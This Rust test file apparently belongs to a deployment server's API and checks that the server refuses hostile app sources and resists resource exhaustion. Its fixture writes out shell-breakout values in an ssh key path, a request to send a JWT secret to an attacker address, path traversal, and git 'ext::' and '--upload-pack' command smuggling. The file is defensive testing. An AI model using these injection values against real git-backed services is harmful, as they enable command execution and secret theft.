//! The server under attack from its own callers: an admin token cannot reach the host (shell, environment,
//! files) through an app's source, and no caller can grow the server without bound — metrics labels, held
//! connections, unknown tokens — or get an error that is not the API's JSON shape.

use std::net::SocketAddr;
use std::time::Duration;

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use weft_engine::api::listener::{self, ListenerLimits};

use crate::api::{ADMIN, Role, api, api_limited};

/// Apps an admin might post to reach the host, each with the key the refusal names.
fn hostile_apps(attacker: SocketAddr, marker: &std::path::Path) -> Vec<(Value, &'static str)> {
    let app = |source: Value| json!({"name": "evil", "type": "yaml", "namespace": "evil", "org": "acme", "source": source});
    vec![
        // 1: a quote in the key path used to break out of the single-quoted ssh command.
        (
            app(json!({"repo": format!("ssh://git@{attacker}/x.git"),
                       "ssh_key": format!("/k' ; touch {} ; echo '", marker.display())})),
            "source.ssh_key",
        ),
        // 2: any variable of the server's environment sent as a password to any URL.
        (
            app(
                json!({"repo": format!("https://{attacker}/x.git"), "username": "u",
                       "password_env": "WEFT_JWT_SECRET"}),
            ),
            "source.username",
        ),
        (
            app(json!({"repo": format!("http://{attacker}/x.git")})),
            "source.repo",
        ),
        // 3: directories of the server as a source.
        (app(json!({"path": "/etc"})), "source.repo"),
        (app(json!({"path": "../../../../root"})), "source.repo"),
        (
            app(json!({"repo": "/srv/git/another-tenant.git"})),
            "source.repo",
        ),
        (app(json!({"repo": "file:///etc"})), "source.repo"),
        // Other transports, and arguments smuggled in as URLs.
        (
            app(json!({"repo": "ext::sh -c touch% /tmp/weft-pwned"})),
            "source.repo",
        ),
        (
            app(json!({"repo": "--upload-pack=touch /tmp/weft-pwned"})),
            "source.repo",
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn an_admin_token_cannot_reach_the_servers_shell_environment_or_files() {
    // As weft.toml has it by default: no file:// repositories for API apps.
    let api = api_limited(1, weft_tests::builtin_registry(), 10_000, false).await;
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    attacker.set_nonblocking(true).unwrap();
    let attacker_addr = attacker.local_addr().unwrap();
    let marker_dir = tempfile::tempdir().unwrap();
    let marker = marker_dir.path().join("pwned");
    for (body, key) in hostile_apps(attacker_addr, &marker) {
        let (status, text) = api
            .call(
                Role::Admin,
                Method::POST,
                "/v1/deploy/applications",
                Some(body.clone()),
            )
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {text}");
        let error: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(error["error"], "bad_request");
        let message = error["message"].as_str().unwrap();
        assert!(message.contains(key), "{body}: {message}");
        // A refusal says nothing of what exists on the server.
        assert!(!message.contains("No such file"), "{message}");
    }
    // Nothing was stored, so nothing is left to run...
    let (status, _) = api
        .call(
            Role::Admin,
            Method::GET,
            "/v1/deploy/applications/evil",
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // ...and after a full round of the reconciler (shop syncs), nothing ran and nothing was sent.
    api.synced("shop").await;
    assert!(!marker.exists(), "a command ran on the server");
    assert!(
        matches!(attacker.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the server connected to the attacker's address"
    );
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn made_up_methods_and_paths_do_not_grow_the_metrics() {
    let api = api().await;
    let metrics = |text: &str| -> (usize, std::collections::BTreeSet<String>) {
        let methods = text
            .lines()
            .filter_map(|line| line.split("method=\"").nth(1))
            .filter_map(|rest| rest.split('"').next())
            .map(str::to_string)
            .collect();
        (text.len(), methods)
    };
    for n in 0..300 {
        let method = Method::from_bytes(format!("BREW{n}").as_bytes()).unwrap();
        api.call(Role::Anonymous, method, &format!("/nowhere/{n}"), None)
            .await;
    }
    let (_, first) = api
        .call(Role::Anonymous, Method::GET, "/metrics", None)
        .await;
    for n in 300..600 {
        let method = Method::from_bytes(format!("BREW{n}").as_bytes()).unwrap();
        api.call(Role::Anonymous, method, &format!("/nowhere/{n}"), None)
            .await;
    }
    let (_, second) = api
        .call(Role::Anonymous, Method::GET, "/metrics", None)
        .await;
    let ((first_len, _), (second_len, methods)) = (metrics(&first), metrics(&second));
    assert!(methods.contains("OTHER"), "{methods:?}");
    assert!(
        methods.iter().all(|m| !m.starts_with("BREW")),
        "{methods:?}"
    );
    assert!(
        second_len < first_len + 200,
        "300 more made-up requests grew /metrics from {first_len} to {second_len} bytes"
    );
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_error_has_the_json_shape_and_an_oversized_body_is_413() {
    let api = api().await;
    let huge = json!({"name": "big", "padding": "x".repeat(weft_engine::api::BODY_LIMIT + 1)});
    let (status, text) = api
        .call(
            Role::Admin,
            Method::POST,
            "/v1/deploy/applications",
            Some(huge),
        )
        .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{text}");
    for (method, path, want) in [
        (
            Method::GET,
            "/v1/deploy/applications?limit=many",
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::GET,
            "/v1/deploy/applications?bogus=1",
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::GET,
            "/v1/deploy/shop/logs?tail=x",
            StatusCode::BAD_REQUEST,
        ),
        (Method::GET, "/no/such/route", StatusCode::NOT_FOUND),
        (Method::DELETE, "/v1/whoami", StatusCode::METHOD_NOT_ALLOWED),
    ] {
        let (status, text) = api.call(Role::Admin, method.clone(), path, None).await;
        assert_eq!(status, want, "{method} {path}: {text}");
        let error: Value = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("{method} {path}: not JSON ({e}): {text}"));
        assert!(
            error["error"].is_string() && error["message"].is_string(),
            "{text}"
        );
    }
    let (status, text) = api
        .call(Role::Admin, Method::POST, "/v1/deploy/applications", None)
        .await;
    assert!(status.is_client_error(), "{text}");
    assert!(serde_json::from_str::<Value>(&text).is_ok(), "{text}");
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_tokens_are_rate_limited_per_client_and_never_share_a_principals_bucket() {
    let api = api_limited(1, weft_tests::builtin_registry(), 5, true).await;
    let mut limited = 0;
    for n in 0..40 {
        let request = axum::http::Request::builder()
            .uri("/v1/whoami")
            .header("authorization", format!("Bearer weft_unknown_{n}"))
            .body(axum::body::Body::empty())
            .unwrap();
        let response = tower::ServiceExt::oneshot(api.router.clone(), request)
            .await
            .unwrap();
        match response.status() {
            StatusCode::UNAUTHORIZED => {}
            StatusCode::TOO_MANY_REQUESTS => limited += 1,
            other => panic!("unexpected {other}"),
        }
    }
    assert!(limited > 0, "40 unknown tokens in a row were never limited");
    // The failures drained the client's bucket, not the admin's: a known token still gets in.
    let (status, text) = api.call(Role::Admin, Method::GET, "/v1/whoami", None).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    api.server.shutdown().await;
}

/// One request on a fresh connection, `Connection: close`; the status and body.
async fn raw_get(addr: SocketAddr, path: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream
        .write_all(
            format!("GET {path} HTTP/1.1\r\nHost: weft\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .await
        .unwrap();
    let mut text = String::new();
    tokio::time::timeout(Duration::from_secs(120), stream.read_to_string(&mut text))
        .await
        .expect("the server answers")
        .unwrap();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .split("\r\n\r\n")
        .nth(1)
        .unwrap_or_default()
        .to_string();
    (status, body)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_listener_caps_connections_times_out_slow_and_idle_ones_and_keeps_healthz_answering() {
    let api = api().await;
    let tcp = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = tcp.local_addr().unwrap();
    let limits = ListenerLimits {
        max_connections: 4,
        header_timeout: Duration::from_secs(1),
    };
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let served = tokio::spawn(listener::serve(tcp, api.router.clone(), limits, async {
        let _ = stopped.await;
    }));
    // Four followed log streams take every slot (they stay open for as long as the client does)...
    api.synced("shop").await;
    let mut streams = Vec::new();
    for _ in 0..4 {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(
                format!(
                    "GET /v1/deploy/shop/logs?follow=true HTTP/1.1\r\nHost: weft\r\nAuthorization: Bearer {ADMIN}\r\n\r\n"
                )
                .as_bytes(),
            )
            .await
            .unwrap();
        let mut head = [0u8; 12];
        tokio::time::timeout(Duration::from_secs(120), stream.read_exact(&mut head))
            .await
            .expect("the stream starts")
            .unwrap();
        assert_eq!(&head, b"HTTP/1.1 200");
        streams.push(stream);
    }
    // ...and still /healthz answers, while anything else is told to come back, in the JSON shape.
    let (status, body) = raw_get(addr, "/healthz").await;
    assert_eq!((status, body.as_str()), (200, "ok"));
    let (status, body) = raw_get(addr, "/v1/whoami").await;
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("most connections"), "{body}");
    drop(streams);
    // Half-sent requests hold nothing for long.
    let mut held = Vec::new();
    for _ in 0..4 {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(b"GET /v1/whoami HTTP/1.1\r\nHost: weft\r\n")
            .await
            .unwrap();
        held.push(stream);
    }
    // The header deadline closes the half-sent requests (however slowly the machine gets round to it).
    for mut stream in held {
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(120), stream.read_to_end(&mut rest))
            .await
            .expect("a half-sent request is closed by the header deadline")
            .ok();
    }
    // A kept-alive connection that goes idle after its answer is closed too.
    let mut idle = TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: weft\r\n\r\n")
        .await
        .unwrap();
    let mut all = Vec::new();
    tokio::time::timeout(Duration::from_secs(120), idle.read_to_end(&mut all))
        .await
        .expect("an idle kept-alive connection is closed")
        .unwrap();
    assert!(String::from_utf8_lossy(&all).starts_with("HTTP/1.1 200"));
    // The slots are free again: requests are served as usual.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    loop {
        let (status, body) = raw_get(addr, "/v1/whoami").await;
        if status == 401 {
            break;
        }
        assert_eq!(status, 503, "{body}");
        assert!(
            tokio::time::Instant::now() < deadline,
            "the slots never freed"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = stop.send(());
    served.await.unwrap();
    api.server.shutdown().await;
}
